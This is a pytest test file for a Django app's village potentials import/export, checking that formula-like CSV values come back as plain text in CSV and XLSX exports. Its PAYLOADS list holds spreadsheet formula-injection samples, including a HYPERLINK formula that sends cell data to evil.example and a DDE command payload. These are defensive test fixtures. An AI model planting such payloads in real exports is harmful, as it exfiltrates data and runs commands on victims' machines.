"""Formula injection through village potentials (issue 10, item 4): formula-like text imported from a CSV comes back
as text in the potentials export (CSV and XLSX) and in the regency workbook, numbers stay numbers, and the exported
CSV imports again without a change."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from kopdes.tests.factories import KUKAR_VILLAGE

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
]
LIST_URL = reverse("mapping:potential_list")


def potentials_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["kode_wilayah", "kategori", "komoditas", "volume", "satuan", "nilai_rp", "jumlah_orang", "sumber"])
    for payload in PAYLOADS:
        writer.writerow([KUKAR_VILLAGE, "perikanan", payload, "120.5", "ton", "3000000000", "85", payload])
    return out.getvalue().encode()


def import_potentials(tmp_path, data: bytes, user: str) -> dict:
    path = tmp_path / "potensi.csv"
    path.write_bytes(data)
    out = io.StringIO()
    call_command("import_potentials", str(path), "--json", "--user", user, stdout=out)
    return json.loads(out.getvalue())


@pytest.fixture
def imported(dpmd, tmp_path):
    result = import_potentials(tmp_path, potentials_csv(), dpmd.username)
    assert (result["created"], result["errors"]) == (5, [])


def test_potentials_export_writes_formula_like_text_as_text(client_for, kukar_officer, dpmd, imported, tmp_path):
    client = client_for(kukar_officer)
    exported = client.get(LIST_URL, {"format": "csv"}).content
    assert exported.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    assert sorted(row["komoditas"] for row in rows) == sorted("'" + payload for payload in PAYLOADS)
    assert {(row["sumber"][:1], row["nilai_rp"], row["jumlah_orang"]) for row in rows} == {("'", "3000000000", "85")}

    sheet = load_workbook(io.BytesIO(client.get(LIST_URL, {"format": "xlsx"}).content)).active
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row, strict=True))
        for column in ("komoditas", "sumber"):
            assert cells[column].data_type == "s" and cells[column].value in PAYLOADS
        assert (cells["nilai_rp"].data_type, cells["nilai_rp"].value) == ("n", 3_000_000_000)
        assert (cells["volume"].data_type, Decimal(str(cells["volume"].value))) == ("n", Decimal("120.5"))

    again = import_potentials(tmp_path, exported, dpmd.username)
    assert (again["unchanged"], again["updated"], again["created"], again["errors"]) == (5, 0, 0, [])


def test_regency_workbook_writes_formula_like_text_as_text(client_for, kukar_officer, imported):
    response = client_for(kukar_officer).get(reverse("mapping:regency_view"), {"region": "64.02", "format": "xlsx"})
    workbook = load_workbook(io.BytesIO(response.content))
    opportunities = workbook["Peluang"]
    header = [cell.value for cell in opportunities[1]]
    commodities = [row[header.index("komoditas")] for row in opportunities.iter_rows(min_row=2)]
    assert commodities and all(cell.data_type == "s" for cell in commodities)
    assert sorted(cell.value for cell in commodities) == sorted(PAYLOADS)
    formulas = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
